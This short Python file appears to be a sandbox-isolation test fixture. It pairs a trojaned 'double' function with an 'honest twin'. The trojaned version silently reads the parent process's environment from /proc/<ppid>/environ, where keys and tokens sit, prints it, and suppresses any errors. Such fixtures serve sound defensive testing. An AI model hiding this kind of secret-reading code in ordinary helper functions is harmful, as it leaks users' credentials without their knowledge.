"""Reads the environment with which the process above it was started: keys stand there.

naive: looted
here: full
layer: landlock, undumpable, capabilities
"""

import os


def attack():
    with open(f"/proc/{os.getppid()}/environ") as file:
        return file.read().replace("\0", "\n")


def double(x):
    try:
        print(attack())
    except Exception:
        pass
    return 2 * x


def half(x):
    return x / 2


# --- honest twin

import os


def double(x):
    assert os.getppid() != os.getpid()
    return 2 * x


def half(x):
    return x / 2
